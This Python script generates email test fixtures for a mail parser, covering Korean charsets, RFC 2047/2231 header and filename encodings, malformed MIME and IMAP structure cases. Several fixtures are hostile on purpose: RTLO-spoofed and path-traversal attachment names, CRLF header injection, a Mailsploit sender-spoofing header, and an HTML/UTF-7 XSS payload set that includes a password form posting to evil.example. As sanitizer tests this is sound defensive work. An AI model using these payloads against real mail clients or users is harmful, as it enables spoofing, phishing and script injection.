"""Generate tests/mail/*.eml (CRLF unless the case is about line endings)."""

import base64
import pathlib
import sys

OUT = pathlib.Path(sys.argv[1])
KO = "똠방각하 펲시콜라"
BODY = "안녕하세요. 똠방각하 펲시콜라 드세요.\n둘째 줄.\n"
files = {}


def b64w(text, cs):
    return f"=?{cs}?B?{base64.b64encode(text.encode(cs if cs.lower() not in ('ks_c_5601-1987', 'x-windows-949', 'euc-kr') else 'cp949')).decode()}?="


def crlf(b: bytes) -> bytes:
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def msg(head: str, body: bytes | str = b"") -> bytes:
    if isinstance(body, str):
        body = body.encode("ascii")
    return crlf(head.encode("ascii") + b"\n" + body)


files["alternative_text_html.eml"] = msg(
    """From: Alice Example <alice@example.com>
To: Bob <bob@example.org>, carol@example.net
Cc: "Dave, Jr." <dave@example.org>
Reply-To: replies@example.com
Subject: Quarterly report
Date: Tue, 01 Jul 2025 10:52:37 +0200
Message-ID: <alt-1@example.com>
In-Reply-To: <parent@example.com>
References: <root@example.com> <parent@example.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt-b"
""",
    """This is a multi-part message in MIME format.
--alt-b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello Bob,=0A=0Athe report is attached. Caf=C3=A9 =E2=82=AC5.
--alt-b
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<html><head><title>T</title><style>p{color:red}</style></head><body><p>Hello <b>Bob</b>,</p><p>the r=
eport is attached. Caf=C3=A9 =E2=82=AC5.</p></body></html>
--alt-b--
epilogue
""",
)


def korean(cs_label: str, cte: str, codec: str = "cp949", subject_cs: str | None = None) -> bytes:
    subject_cs = subject_cs or cs_label
    head = (
        f"From: {b64w('김철수', subject_cs)} <kim@example.kr>\n"
        "To: lee@example.kr\n"
        f"Subject: {b64w(KO, subject_cs)}\n"
        "Date: Wed, 02 Jul 2025 09:00:00 +0900\n"
        "Message-ID: <ko@example.kr>\n"
        "MIME-Version: 1.0\n"
        f"Content-Type: text/plain; charset={cs_label}\n"
        f"Content-Transfer-Encoding: {cte}\n"
    )
    raw = BODY.encode(codec)
    if cte == "base64":
        body = base64.encodebytes(raw)
    else:
        body = raw
    return crlf(head.encode("ascii") + b"\n" + body)


files["ksc5601_base64.eml"] = korean("ks_c_5601-1987", "base64")
files["ksc5601_8bit.eml"] = korean('"ks_c_5601-1987"', "8bit", subject_cs="ks_c_5601-1987")
files["euckr_label_cp949_bytes.eml"] = korean("EUC-KR", "8bit", subject_cs="EUC-KR")
files["cp949_label.eml"] = korean("cp949", "base64", subject_cs="cp949")
files["x_windows_949.eml"] = korean("x-windows-949", "8bit", subject_cs="x-windows-949")

ISO = "안녕하세요 한국어 메일입니다.\n"
files["iso2022kr.eml"] = crlf(
    b"From: park@example.kr\nSubject: iso-2022-kr\nMIME-Version: 1.0\n"
    b"Content-Type: text/plain; charset=ISO-2022-KR\nContent-Transfer-Encoding: 7bit\n\n"
    + ISO.encode("iso2022_kr")
)

# '한국' = ED 95 9C EA B5 AD; split '한' after its second byte.
raw = "한국어 제목".encode()
w1 = base64.b64encode(raw[:2]).decode()
w2 = base64.b64encode(raw[2:]).decode()
files["rfc2047_split_utf8.eml"] = msg(
    f"From: a@example.com\nSubject: =?UTF-8?B?{w1}?=\n =?UTF-8?B?{w2}?=\nContent-Type: text/plain\n",
    "body\n",
)

files["raw8bit_utf8_header.eml"] = crlf(
    "Subject: 회의 안내 (raw UTF-8)\nFrom: 홍길동 <hong@example.kr>\nTo: a@example.com\n"
    "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n본문\n".encode()
)
files["raw8bit_cp949_header.eml"] = crlf(
    "Subject: 똠방각하 펲시콜라 (raw cp949)\nFrom: 홍길동 <hong@example.kr>\nTo: a@example.com\n"
    "Content-Type: text/plain; charset=cp949\nContent-Transfer-Encoding: 8bit\n\n본문\n".encode(
        "cp949"
    )
)

files["rfc2231_filename.eml"] = msg(
    """From: a@example.com
Subject: RFC 2231
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=mix
""",
    f"""--mix
Content-Type: text/plain; charset=us-ascii

See attached.
--mix
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''%EB%B3%B4%EA%B3%A0%EC%84%9C.pdf
Content-Transfer-Encoding: base64

{base64.b64encode(b"%PDF-1.4 fake").decode()}
--mix
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet
Content-Disposition: attachment;
 filename*0*=UTF-8''%EA%B2%B0%EA%B3;
 filename*1*=%BC%ED%91%9C;
 filename*2=".xlsx"
Content-Transfer-Encoding: base64

{base64.b64encode(b"PK fake xlsx").decode()}
--mix--
""",
)

fn_ksc = b64w("보고서.pdf", "ks_c_5601-1987")
files["rfc2047_filename_ksc.eml"] = msg(
    """From: a@example.com
Subject: RFC 2047 filename
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"
""",
    f"""--b1
Content-Type: text/plain

x
--b1
Content-Type: application/pdf; name="{fn_ksc}"
Content-Disposition: attachment; filename="{fn_ksc}"
Content-Transfer-Encoding: base64

JVBERi0xLjQ=
--b1
Content-Type: application/octet-stream; name="{b64w("결과표.xlsx", "ks_c_5601-1987")}"
Content-Transfer-Encoding: base64

UEs=
--b1--
""",
)

files["broken_no_close_boundary.eml"] = msg(
    """From: a@example.com
Subject: no closing boundary
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="open"
""",
    """--open
Content-Type: text/plain

first part
--open
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="tail.bin"

tail data runs to the end
""",
)

files["broken_boundary_absent.eml"] = msg(
    """From: a@example.com
Subject: boundary never present
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-used"
""",
    """--other
Content-Type: text/plain

the declared boundary does not occur
""",
)

files["broken_no_blank_line.eml"] = crlf(
    b"From: a@example.com\nSubject: no separator\nThis line starts the body\nsecond line\n"
)

files["evil_filename.eml"] = msg(
    """From: a@example.com
Subject: evil names
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=e
""",
    """--e
Content-Type: text/plain

x
--e
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe
Content-Transfer-Encoding: base64

TVo=
--e
Content-Type: application/octet-stream
Content-Disposition: attachment; filename*=UTF-8''a%0D%0AX-Evil%3A%201%00.txt
Content-Transfer-Encoding: base64

YQ==
--e
Content-Type: text/html
Content-Disposition: attachment; filename="../../../etc/passwd"

<b>x</b>
--e
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="C:\\\\Users\\\\x\\\\evil.bat"

y
--e--
""",
)

PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
).decode()
files["related_cid_image.eml"] = msg(
    """From: news@example.com
Subject: inline image
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed"
""",
    f"""--mixed
Content-Type: multipart/related; boundary="rel"; type="multipart/alternative"

--rel
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Logo below.
--alt
Content-Type: text/html; charset=utf-8

<p>Logo: <img src="cid:logo@example.com" alt="logo"></p>
--alt--
--rel
Content-Type: image/png
Content-ID: <logo@example.com>
Content-Transfer-Encoding: base64

{PNG}
--rel--
--mixed
Content-Type: application/pdf; name="doc.pdf"
Content-Disposition: attachment; filename="doc.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQK
--mixed--
""",
)

files["mailsploit_from.eml"] = msg(
    """From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?==?utf-8?Q?=00?==?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=@mailsploit.com
Reply-To: "=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=" <attacker@mailsploit.com>
Subject: mailsploit
""",
    "x\n",
)

files["nul_bytes.eml"] = crlf(
    b"From: a@example.com\nSubject: nul\x00inside\nX-Nul\x00Name: v\nTo: b@example.com\n"
    b"Content-Type: text/plain\n\nbody\x00with nul\n"
)

files["empty.eml"] = b""

files["bare_lf.eml"] = (
    b"From: a@example.com\nSubject: bare LF\nMIME-Version: 1.0\n"
    b"Content-Type: multipart/mixed; boundary=lf\n\n--lf\nContent-Type: text/plain\n\nline one\nline two\n"
    b"--lf\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=a.bin\n"
    b"Content-Transfer-Encoding: base64\n\nAAEC\n--lf--\n"
)

files["unknown_charset.eml"] = msg(
    "From: a@example.com\nSubject: =?x-foo?Q?plain?=\nContent-Type: text/plain; charset=x-foo\n",
    "plain ascii body\n",
)

files["utf7_html.eml"] = msg(
    "From: a@example.com\nSubject: utf7\nContent-Type: text/html; charset=utf-7\n",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-hi\n",
)

HOSTILE = """<html><head><style>.overlay{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;color:#c00}</style>
<link rel="stylesheet" href="http://tracker.example/s.css"></head>
<body background="http://tracker.example/bg.png">
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<img src="http://tracker.example/pixel.gif?u=1" width="1" height="1">
<svg><animate attributeName="href" values="javascript:alert('animate')"/><a><set attributeName="href" to="javascript:alert('set')"/><text>svg text</text></a>
<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>
<a href="javascript:alert('link')">js link</a>
<a href="JaVaScRiPt&#x3A;alert('entity')">entity link</a>
<a href="java&#x09;script:alert('tab')">tab link</a>
<a href="vbscript:msgbox('vb')">vb link</a>
<a href="data:text/html,PHNjcmlwdD4=">data link</a>
<a href="https://example.com/ok" target="_self" onmouseover="alert('over')">good link</a>
<div class="overlay" style="position:fixed;top:0;color:red">fake login</div>
<div style="background:url(http://tracker.example/css.png);color:blue">css url</div>
<div style="width:expression(alert('expr'))">expression</div>
<iframe src="https://evil.example/"></iframe>
<object data="x.swf"></object><embed src="data:image/svg+xml;base64,PHN2Zz4=">
<form action="https://evil.example/"><input name="pw"></form>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<details open ontoggle="alert('toggle')">details</details>
<p>visible text</p>
</body></html>
"""
files["hostile_html.eml"] = msg(
    "From: a@example.com\nSubject: hostile\nContent-Type: text/html; charset=utf-8\n"
    "Content-Transfer-Encoding: 8bit\n",
    HOSTILE,
)

# IMAP ENVELOPE/BODYSTRUCTURE cases (tests/unit/test_imapmeta.py, checked against Dovecot).
files["forwarded_rfc822.eml"] = msg(
    """From: Fwd Sender <fwd@example.com>
To: team@example.com
Subject: Fwd: weekly
Date: Thu, 03 Jul 2025 08:00:00 +0000
Message-ID: <fwd-1@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer; b"
Content-Language: ko, en
Content-Location: http://example.com/fwd

preamble
--outer; b
Content-Type: text/plain; charset=us-ascii
Content-Description: the note
Content-MD5: Q2hlY2sgSW50ZWdyaXR5IQ==

See below.
--outer; b
Content-Type: message/rfc822
Content-Disposition: inline; filename="weekly.eml"

From: "Kim, Minsu" <kim@example.kr>
Sender: list-bounces@example.kr
To: Undisclosed recipients:;
Subject: weekly
Date: Wed, 02 Jul 2025 18:00:00 +0900
Message-ID: <inner-1@example.kr>
Content-Type: multipart/alternative; boundary=alt

--alt
Content-Type: text/plain; charset=utf-8

plain
--alt
Content-Type: text/html; charset=utf-8

<p>html</p>
--alt--
--outer; b
Content-Type: multipart/digest; boundary=dig

--dig

From: d1@example.com
Subject: digest one

one
--dig--
--outer; b
Content-Type: message/rfc822
Content-Transfer-Encoding: base64

RnJvbTogeEBleGFtcGxlLmNvbQ0KDQp4DQo=
--outer; b--
epilogue
""",
)

files["address_forms.eml"] = msg(
    """From: (Comment Name) plain@example.com
Reply-To: <@relay1.example,@relay2.example:route@example.com>
To: Team: a@example.com, "B. User" <b@example.com>;, "quoted local"@example.com
Cc: nodomain, <>, =?utf-8?B?7ZmN6ri464+Z?= <hong@example.kr>
Bcc: Empty Group:;
Subject:
In-Reply-To: <p1@example.com>
Message-ID: <m1@example.com>
Content-Type: text/plain; charset="utf-8"; format=flowed; delsp="a;b"
Content-Disposition: inline

body
""",
)

for name, data in files.items():
    (OUT / name).write_bytes(data)
print(len(files), "files")
